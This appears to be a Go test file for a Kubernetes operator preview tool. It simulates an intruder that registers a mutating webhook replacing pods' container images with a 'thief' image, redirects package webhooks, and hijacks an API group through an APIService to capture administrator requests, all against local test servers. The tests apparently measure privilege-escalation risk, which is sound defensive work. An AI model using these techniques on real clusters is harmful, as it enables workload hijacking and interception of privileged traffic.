package engine_test

import (
	"bufio"
	"context"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"time"

	admissionv1 "k8s.io/api/admission/v1"
	registrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	utilrand "k8s.io/apimachinery/pkg/util/rand"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"

	"github.com/kubectl-operator/kubectl-operator/preview"
)

// thief is the image that an intruder gives to pods of others.
const thief = "example.com/thief"

// patience returns a context to wait for the API server or a controller; most waits take
// less than two seconds.
func patience(ctx context.Context) (context.Context, context.CancelFunc) {
	return context.WithTimeout(ctx, 30*time.Second)
}

// eventually asks again until the answer is yes.
func eventually(ctx context.Context, what string, done func(context.Context) bool) error {
	ctx, cancel := patience(ctx)
	defer cancel()
	for !done(ctx) {
		if ctx.Err() != nil {
			return errors.New("did not happen: " + what)
		}
	}
	return nil
}

// write writes an object as the intruder: a new one where it may create them, else into
// one of others that has been there. It returns the verb and the object as stored.
func (in intruder) write(ctx context.Context, gvr schema.GroupVersionResource, namespace string, theirs, ours map[string]any) (string, *unstructured.Unstructured, error) {
	client, err := dynamic.NewForConfig(in.config)
	if err != nil {
		return "", nil, err
	}
	own, admin := client.Resource(gvr).Namespace(namespace), in.objects.Resource(gvr).Namespace(namespace)
	body := &unstructured.Unstructured{Object: ours}
	if in.may(ctx, "create", gvr.Group, gvr.Resource, "") == nil {
		made, err := own.Create(ctx, body, metav1.CreateOptions{})
		return "create", made, err
	}
	victim, err := admin.Create(ctx, &unstructured.Unstructured{Object: theirs}, metav1.CreateOptions{})
	if err != nil {
		return "", nil, err
	}
	for err = in.may(ctx, "update", gvr.Group, gvr.Resource, ""); err == nil; {
		body.SetResourceVersion(victim.GetResourceVersion())
		made, err := own.Update(ctx, body, metav1.UpdateOptions{})
		if !apierrors.IsConflict(err) {
			return "update", made, err
		}
		// A controller has written the status of the object.
		if victim, err = admin.Get(ctx, victim.GetName(), metav1.GetOptions{}); err != nil {
			return "", nil, err
		}
	}
	data, err := json.Marshal(ours)
	if err != nil {
		return "", nil, err
	}
	made, err := own.Patch(ctx, victim.GetName(), "application/merge-patch+json", data, metav1.PatchOptions{})
	return "patch", made, err
}

// server is one of an intruder's.
type server struct {
	*httptest.Server
	called atomic.Bool
}

func serve(answer func(s *server, w http.ResponseWriter, r *http.Request)) *server {
	s := &server{}
	s.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { answer(s, w, r) }))
	s.Config.ErrorLog = log.New(io.Discard, "", 0) // connections that end with the server
	s.StartTLS()
	return s
}

// authority returns the certificate that clients of the server have to trust.
func (s *server) authority() []byte {
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: s.Certificate().Raw})
}

// changePods serves a webhook that gives the first container of each pod another image.
func changePods(_ *server, w http.ResponseWriter, r *http.Request) {
	var review admissionv1.AdmissionReview
	if err := json.NewDecoder(r.Body).Decode(&review); err != nil || review.Request == nil {
		http.Error(w, "no review", http.StatusBadRequest)
		return
	}
	kind := admissionv1.PatchTypeJSONPatch
	review.Response = &admissionv1.AdmissionResponse{
		UID: review.Request.UID, Allowed: true, PatchType: &kind, Patch: fmt.Appendf(nil, `[{"op":"replace","path":"/spec/containers/0/image","value":%q}]`, thief),
	}
	review.Request = nil
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(review)
}

// podsAreChanged has the administrator ask for pods until one has the image of the thief.
func podsAreChanged(ctx context.Context, admin kubernetes.Interface) error {
	return eventually(ctx, "a pod of others with another image", func(ctx context.Context) bool {
		pod, err := admin.CoreV1().Pods("bank").Create(ctx, &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{GenerateName: "victim-"}, Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "example.com/victim"}}},
		}, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
		return err == nil && pod.Spec.Containers[0].Image == thief
	})
}

// interceptPods has pods of others sent to the intruder's server, which changes them.
func interceptPods(ctx context.Context, in intruder) (string, error) {
	s := serve(changePods)
	defer s.Close()
	name := "intruder-" + utilrand.String(5)
	configuration := func(url string) map[string]any {
		ignore, none := registrationv1.Ignore, registrationv1.SideEffectClassNone
		body, err := runtime.DefaultUnstructuredConverter.ToUnstructured(&registrationv1.MutatingWebhookConfiguration{
			TypeMeta: metav1.TypeMeta{APIVersion: "admissionregistration.k8s.io/v1", Kind: "MutatingWebhookConfiguration"}, ObjectMeta: metav1.ObjectMeta{Name: name},
			Webhooks: []registrationv1.MutatingWebhook{{
				Name: "pods.intruder.invalid", ClientConfig: registrationv1.WebhookClientConfig{URL: &url, CABundle: s.authority()}, FailurePolicy: &ignore, SideEffects: &none,
				AdmissionReviewVersions: []string{"v1"}, NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{corev1.LabelMetadataName: "bank"}},
				Rules: []registrationv1.RuleWithOperations{{
					Operations: []registrationv1.OperationType{registrationv1.Create},
					Rule:       registrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}},
				}},
			}},
		})
		if err != nil {
			panic(err) // the type is one of Kubernetes
		}
		return body
	}
	webhooks := registrationv1.SchemeGroupVersion.WithResource("mutatingwebhookconfigurations")
	verb, _, err := in.write(ctx, webhooks, "", configuration("https://127.0.0.1:1/"), configuration(s.URL))
	if err != nil {
		return "", err
	}
	defer func() { _ = in.objects.Resource(webhooks).Delete(ctx, name, metav1.DeleteOptions{}) }()
	return "has every new pod sent to a server of its own, which changes it, by " + verb, podsAreChanged(ctx, in.admin)
}

// serveWebhook does what who serves a webhook of a package can do, which needs no
// account: the webhooks of the configuration are sent to another server, and change a pod
// of others. In the sandbox no Service has a pod behind it, so that they have a URL.
func (a *authority) serveWebhook(ctx context.Context, o *preview.Object) (string, error) {
	s := serve(changePods)
	defer s.Close()
	body := preview.CloneBody(o.Planned)
	for _, webhook := range preview.Maps(body, "webhooks") {
		path := preview.String(webhook, "clientConfig", "service", "path")
		webhook["clientConfig"] = map[string]any{"url": s.URL + path, "caBundle": s.authority()}
	}
	data, err := json.Marshal(body) // the bytes of the bundle become text
	if err != nil {
		return "", err
	}
	configuration := &unstructured.Unstructured{}
	if err := configuration.UnmarshalJSON(data); err != nil {
		return "", err
	}
	webhooks := registrationv1.SchemeGroupVersion.WithResource(strings.ToLower(o.Kind) + "s")
	if _, err := a.dynamic.Resource(webhooks).Create(ctx, configuration, metav1.CreateOptions{}); err != nil {
		return "", err
	}
	defer func() { _ = a.dynamic.Resource(webhooks).Delete(ctx, o.Name, metav1.DeleteOptions{}) }()
	return "changes the pods of others", podsAreChanged(ctx, a.client)
}

// beyond serves what the API server sends into the network of pods, which the sandbox does
// not have: a connection begins with an HTTP CONNECT, which is answered, and goes on to
// the server.
func (s *server) beyond(socket string) (net.Listener, error) {
	listener, err := net.Listen("unix", socket)
	if err != nil {
		return nil, err
	}
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return // closed at the end
			}
			go s.tunnel(conn)
		}
	}()
	return listener, nil
}

func (s *server) tunnel(conn net.Conn) {
	defer func() { _ = conn.Close() }()
	if request, err := http.ReadRequest(bufio.NewReader(conn)); err != nil || request.Method != http.MethodConnect {
		return
	}
	to, err := net.Dial("tcp", s.Listener.Addr().String())
	if err != nil {
		return
	}
	defer func() { _ = to.Close() }()
	_, _ = io.WriteString(conn, "HTTP/1.1 200 Connection established\r\n\r\n")
	go func() { _, _ = io.Copy(to, conn) }()
	_, _ = io.Copy(conn, to)
}

// answerForGroup has requests for an API group sent to the intruder's server. In a
// cluster the Service belongs to the package; here it names an address, as no pods run.
func answerForGroup(ctx context.Context, in intruder) (string, error) {
	group := "g" + utilrand.String(5) + ".intruder.invalid"
	s := serve(func(s *server, w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/letters") && r.Header.Get("X-Remote-User") != "" {
			s.called.Store(true) // by the administrator, who the API server says it is
		}
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"kind":"APIResourceList","apiVersion":"v1","groupVersion":"%s/v1","resources":[]}`, group)
	})
	defer s.Close()
	network, err := s.beyond(in.network)
	if err != nil {
		return "", err
	}
	defer func() { _ = network.Close() }()
	service, err := in.admin.CoreV1().Services("bank").Create(ctx, &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{GenerateName: "intruder-"}, Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeExternalName, ExternalName: "intruder.invalid"},
	}, metav1.CreateOptions{})
	if err != nil {
		return "", err
	}
	apiService := func(service string) map[string]any {
		return map[string]any{
			"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService", "metadata": map[string]any{"name": "v1." + group},
			"spec": map[string]any{
				"group": group, "version": "v1", "groupPriorityMinimum": int64(1000), "versionPriority": int64(1), "insecureSkipTLSVerify": true,
				"service": map[string]any{"namespace": "bank", "name": service, "port": int64(443)},
			},
		}
	}
	services := schema.GroupVersionResource{Group: "apiregistration.k8s.io", Version: "v1", Resource: "apiservices"}
	verb, _, err := in.write(ctx, services, "", apiService("theirs"), apiService(service.Name))
	if err != nil {
		return "", err
	}
	defer func() { _ = in.objects.Resource(services).Delete(ctx, "v1."+group, metav1.DeleteOptions{}) }()
	return "has requests for an API group sent to a server of its own, by " + verb + " on apiservices", eventually(ctx, "a request of the administrator", func(ctx context.Context) bool {
		_, _ = in.admin.Discovery().RESTClient().Get().AbsPath("/apis/" + group + "/v1/letters").DoRaw(ctx)
		return s.called.Load()
	})
}
